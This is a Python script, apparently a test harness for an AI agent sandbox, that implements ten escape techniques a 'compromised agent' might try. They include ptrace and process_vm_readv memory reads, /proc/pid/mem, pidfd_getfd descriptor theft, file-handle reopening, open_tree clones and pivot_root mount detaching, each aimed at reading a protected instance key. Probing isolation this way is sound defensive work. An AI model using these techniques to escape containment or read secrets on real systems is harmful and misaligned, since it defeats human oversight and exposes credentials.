"""What a compromised agent can try that takes more than a shell. Prints what it got, in hexadecimal."""

import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_char_p]
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
environment = os.environ
process = int(environment.get("OUTSIDE_PID", 0))
address = int(environment.get("OUTSIDE_ADDRESS", 0))
parent, name = os.path.split(environment["INSTANCE"])
LENGTH = 32


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def show(descriptor):
    print(os.read(descriptor, 4096).hex())


def ptrace():
    attach, peek, detach, any_kind = 16, 2, 17, 0x40000000
    checked(libc.ptrace(attach, process, None, None))
    os.waitpid(process, any_kind)
    words = [libc.ptrace(peek, process, address + at, None) for at in range(0, LENGTH, 8)]
    libc.ptrace(detach, process, None, None)
    print(b"".join(word.to_bytes(8, "little", signed=True) for word in words).hex())


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def process_vm_readv():
    buffer = ctypes.create_string_buffer(LENGTH)
    local, remote = Vector(ctypes.addressof(buffer), LENGTH), Vector(address, LENGTH)
    checked(libc.process_vm_readv(process, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
    print(buffer.raw.hex())


def mem():
    descriptor = os.open(f"/proc/{process}/mem", os.O_RDONLY)
    print(os.pread(descriptor, LENGTH, address).hex())


def pidfd_getfd():
    number = 438
    taken = libc.syscall(number, os.pidfd_open(process), int(environment["OUTSIDE_DESCRIPTOR"]), 0)
    print(os.pread(checked(taken), 4096, 0).hex())


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]


def handle():
    """Not an attack: the handle of the folder, as it could be learned before."""
    found, mount = Handle(128), ctypes.c_int()
    at = os.open(parent, os.O_RDONLY)
    checked(libc.name_to_handle_at(at, os.fsencode(name), ctypes.byref(found), ctypes.byref(mount), 0))
    print(bytes(found).hex())


def open_by_handle():
    known = Handle.from_buffer_copy(bytes.fromhex(environment["HANDLE"]))
    at = os.open(parent, os.O_RDONLY)
    folder = checked(libc.open_by_handle_at(at, ctypes.byref(known), os.O_RDONLY | os.O_DIRECTORY))
    show(os.open("instance.key", os.O_RDONLY, dir_fd=folder))


def open_tree(flags):
    number, clone = 428, 1
    tree = checked(libc.syscall(number, -100, os.fsencode(parent), clone | flags))
    show(os.open(f"{name}/instance.key", os.O_RDONLY, dir_fd=tree))


def detach_everything():
    """Takes all mounts away at once, and goes on in a folder that is still open."""
    pivot_root, detach = {"x86_64": 155, "aarch64": 41}[os.uname().machine], 2
    folder = os.open(parent, os.O_PATH | os.O_DIRECTORY)
    checked(libc.mount(b"tmpfs", b"x", b"tmpfs", 0, None))
    os.mkdir("x/old")
    os.chdir("x")
    checked(libc.syscall(pivot_root, b".", b"old"))
    os.chdir("/")
    checked(libc.umount2(b"old", detach))
    return folder


def detached():
    show(os.open(f"{name}/instance.key", os.O_RDONLY, dir_fd=detach_everything()))


def detached_and_moved():
    """No mount of this namespace is on the folder then, and so it can be moved."""
    folder = detach_everything()
    os.rename(name, "moved", src_dir_fd=folder, dst_dir_fd=folder)
    try:
        print("moved")
        show(os.open("moved/instance.key", os.O_RDONLY, dir_fd=folder))
    finally:
        os.rename("moved", name, src_dir_fd=folder, dst_dir_fd=folder)


attacks = {
    "detached": detached,
    "detached-and-moved": detached_and_moved,
    "handle": handle,
    "mem": mem,
    "open-by-handle": open_by_handle,
    "open-tree": lambda: open_tree(0),
    "open-tree-recursive": lambda: open_tree(0x8000),
    "pidfd-getfd": pidfd_getfd,
    "process-vm-readv": process_vm_readv,
    "ptrace": ptrace,
}
attacks[sys.argv[1]]()
